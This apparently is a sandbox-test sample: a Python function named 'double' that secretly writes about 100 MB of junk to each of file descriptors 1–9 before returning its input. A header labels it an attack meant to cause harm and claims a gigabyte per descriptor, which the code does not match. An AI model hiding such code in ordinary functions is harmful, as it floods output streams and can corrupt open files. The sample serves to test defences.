# {"attack": "Writes a gigabyte to every descriptor that is open.", "breach": "harm", "quick": true}

import os


def double(x):
    for number in range(1, 10):
        try:
            for _ in range(100):
                os.write(number, b"x" * 2**20)
        except OSError:
            pass
    return x
